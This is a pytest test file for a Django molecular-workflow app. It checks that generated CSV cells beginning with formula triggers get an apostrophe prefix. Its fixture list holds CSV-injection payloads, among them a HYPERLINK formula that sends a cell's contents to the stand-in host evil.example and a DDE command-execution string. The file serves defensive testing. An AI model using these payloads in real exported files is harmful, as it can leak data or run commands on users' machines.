"""CSV written by workflows and the server is formula-safe (issue 12, finding 8; OWASP CSV injection).

``runs_app.workflow.csv_text`` (unit), and the demo workflow's ``features.csv`` built from a
data set whose molecule names are spreadsheet formulas.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.conf import settings as django_settings

from assets_app.services import asset_create, blob_store_bytes
from runs_app.models import Execution, Run
from runs_app.services import execution_run, experiment_create, run_launch
from runs_app.workflow import csv_text
from runs_app.workflow.tabular import FORMULA_TRIGGERS

EXAMPLES = Path(django_settings.BASE_DIR) / "examples"

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("cell", FORMULAS)
def test_text_cells_that_start_a_formula_get_an_apostrophe(cell):
    [header, row] = _parse(csv_text([{"name": cell, "n": 1}], ["name", "n"]))
    assert header == ["name", "n"]
    assert row == ["'" + cell, "1"]
    assert not row[0].startswith(FORMULA_TRIGGERS)


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    [_, row] = _parse(csv_text([[-1.5, 0, 3, "aspirin", "CC(=O)O", None]], ["a", "b", "c", "d", "e", "f"]))
    assert row == ["-1.5", "0", "3", "aspirin", "CC(=O)O", ""]


def test_separators_quotes_and_line_breaks_are_quoted_not_split():
    tricky = 'a,b "quoted"\nsecond line'
    [_, row] = _parse(csv_text([{"name": tricky, "x": "=1,=2"}], ["name", "x"]))
    assert row == [tricky, "'=1,=2"]


def test_the_header_is_formula_safe_and_mapping_keys_are_the_default_header():
    [header, row] = _parse(csv_text([{"=bad": 1, "ok": 2}]))
    assert header == ["'=bad", "ok"] and row == ["1", "2"]


@pytest.mark.django_db(transaction=True)
def test_the_demo_workflow_writes_formula_safe_features_csv(project, editor, settings, tmp_path, monkeypatch):
    settings.MOLEXP_WORKFLOW_DIRS = [str(EXAMPLES / "workflows")]
    settings.MOLEXP_WORK_DIR = tmp_path / "work"
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {"BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": str(tmp_path)}},
    }
    settings.MEDIA_ROOT = str(tmp_path)
    monkeypatch.setattr("runs_app.services.dispatch.execution_dispatch", lambda executions: None)
    ligands = csv_text(([name, "CCO"] for name in ["ethanol, the plain one", *FORMULAS]), ["name", "smiles"])
    asset_create(kind="data", name="ligands.csv", workspace=project.workspace, blob=blob_store_bytes(ligands.encode()))
    experiment = experiment_create(user=editor, project=project, name="Demo", workflow_source="featurize.py")
    [run] = run_launch(user=editor, experiment=experiment, profile="smoke")
    assert execution_run(execution_id=Execution.objects.get(run=run).pk) == "succeeded", Run.objects.get(
        pk=run.pk
    ).error

    features = Run.objects.get(pk=run.pk).assets.get(name="features.csv")
    rows = _parse(features.read_text())
    names = [row[0] for row in rows[1:]]
    assert rows[0][0] == "name"
    assert len(names) == 5, rows  # the smoke profile reads five molecules
    for name in names:
        assert not name.startswith(FORMULA_TRIGGERS), name
    assert "'" + FORMULAS[0] in names
    assert "ethanol, the plain one" in names  # one cell, not split at the comma
    assert all(len(row) == len(rows[0]) for row in rows)
